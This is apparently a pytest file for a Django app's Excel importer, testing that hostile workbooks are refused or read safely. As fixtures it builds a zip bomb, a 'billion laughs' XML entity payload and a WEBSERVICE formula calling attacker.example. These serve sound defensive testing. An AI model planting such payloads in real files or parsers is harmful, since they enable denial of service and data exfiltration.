"""Hostile workbooks, each built here: refused with a clear message (and nothing written) or read safely."""

import io
import re
import zipfile

import openpyxl
import pytest

from tests.usecases.exchange.conftest import fingerprint
from usecases.excel import layout
from usecases.excel.reader import ExcelImportError, read_workbook
from usecases.exchange.files import repository_import_file
from usecases.models import UseCase

pytestmark = pytest.mark.django_db


def _template(*, name: str = "Hostile", rows: int = 0, columns: int = 0, formula_name: bool = False) -> bytes:
    """A use case sheet with the template's labels, ID and name (and, asked for, `rows` extra rows or a value in
    column `columns`)."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "IEC62559-2"
    for row in layout.ROWS:
        if row.label:
            sheet.cell(row=row.row, column=layout.LABEL_COLUMN, value=row.label)
        if row.heading:
            sheet.cell(row=row.row, column=layout.HEADING_COLUMN, value=row.heading)
    sheet["C4"] = "H-1"
    sheet["C6"] = name
    sheet["C46"], sheet["C63"], sheet["C71"], sheet["C73"] = "DSO", "Only scenario", 1, "First step"
    for number in range(rows):
        sheet.cell(row=layout.LAST_TEMPLATE_ROW + 2 + number, column=1, value="filler")
    if columns:
        sheet.cell(row=73, column=columns, value="far away step")
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _rezip(data: bytes, *, add: dict[str, bytes] = (), change=None) -> bytes:
    """The workbook's zip with parts added (or changed by `change(name, bytes)`)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info)
            target.writestr(info.filename, change(info.filename, content) if change else content)
        for name, content in dict(add).items():
            target.writestr(name, content)
    return out.getvalue()


def _refused(data: bytes, code: str) -> str:
    before = fingerprint()
    with pytest.raises(ExcelImportError) as raised:
        repository_import_file(user=None, data=data, workspace=None)
    assert raised.value.code == code
    assert fingerprint() == before and not UseCase.objects.exists()
    return " ".join(raised.value.messages)


def test_a_zip_bomb_is_refused_from_the_zip_directory_before_anything_is_unpacked(settings, monkeypatch):
    settings.UCMR_EXCEL_MAX_BYTES = 1_000_000
    bomb = _rezip(_template(), add={"xl/media/zeros.bin": bytes(5_000_000)})  # 5 MB of zeros: a few KB zipped
    assert len(bomb) < 100_000

    def never(*args, **kwargs):
        raise AssertionError("openpyxl was asked to open a zip bomb")

    monkeypatch.setattr(openpyxl, "load_workbook", never)

    message = _refused(bomb, "excel_too_large")
    assert "1,000,000 bytes" in message


def test_an_encrypted_workbook_is_refused_by_its_ole_signature():
    # An encrypted .xlsx is an OLE compound file (EncryptedPackage), as a legacy .xls is.
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)

    assert "encrypted" in _refused(ole, "excel_encrypted")


def test_a_zip_that_is_no_workbook_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("ppt/presentation.xml", "<p:presentation/>")  # a Word document goes to the Word reader

    assert "not an Excel workbook" in _refused(buffer.getvalue(), "excel_not_workbook")


def test_a_damaged_zip_is_refused():
    assert "damaged" in _refused(_template()[:3_000], "excel_damaged")


def test_a_doctype_in_any_part_is_refused():
    laughs = b'<!DOCTYPE worksheet [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><worksheet'

    def with_entities(name: str, content: bytes) -> bytes:
        return content.replace(b"<worksheet", laughs, 1) if name == "xl/worksheets/sheet1.xml" else content

    assert "DOCTYPE" in _refused(_rezip(_template(), change=with_entities), "excel_doctype")


def test_a_huge_sheet_is_read_only_up_to_the_row_and_column_caps(settings):
    settings.UCMR_EXCEL_MAX_ROWS = 150
    settings.UCMR_EXCEL_MAX_COLUMNS = 30

    document = read_workbook(data=_template(rows=2_000, columns=200))

    [use_case] = document.use_cases
    assert use_case.name == "Hostile"
    assert [step.name for step in use_case.scenarios[0].steps] == ["First step"]  # column GR was not read
    assert any("larger than 150 rows or 30 columns" in warning for warning in document.warnings)


def test_formulas_give_their_cached_value_and_are_never_evaluated():
    def formula(name: str, content: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return content
        cell = b'<c r="C6" t="str"><f>WEBSERVICE("http://attacker.example/")</f><v>Cached name</v></c>'
        return re.sub(rb'<c r="C6"[^>]*>.*?</c>', cell, content, count=1)

    document = read_workbook(data=_rezip(_template(), change=formula))

    assert document.use_cases[0].name == "Cached name"


def test_external_links_are_not_followed_and_said_so():
    link = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/>'
        b"</externalLink>"
    )
    data = _rezip(_template(), add={"xl/externalLinks/externalLink1.xml": link})

    report = repository_import_file(user=None, data=data, workspace=None)

    assert any("links to 1 other workbook(s): the links were not followed" in w for w in report.warnings)
    assert UseCase.objects.get().name == "Hostile"


def test_macros_of_a_macro_workbook_are_ignored():
    data = _rezip(_template(), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 pretend VBA"})

    report = repository_import_file(user=None, data=data, workspace=None)

    assert any("macros (VBA): they were neither run nor read" in w for w in report.warnings)
    assert UseCase.objects.get().identifier == "H-1"


def test_a_workbook_without_a_use_case_sheet_imports_nothing_and_says_why():
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "a shopping list"
    buffer = io.BytesIO()
    workbook.save(buffer)

    report = repository_import_file(user=None, data=buffer.getvalue(), workspace=None)

    assert not UseCase.objects.exists()
    assert any("is not laid out as the use case template" in warning for warning in report.warnings)
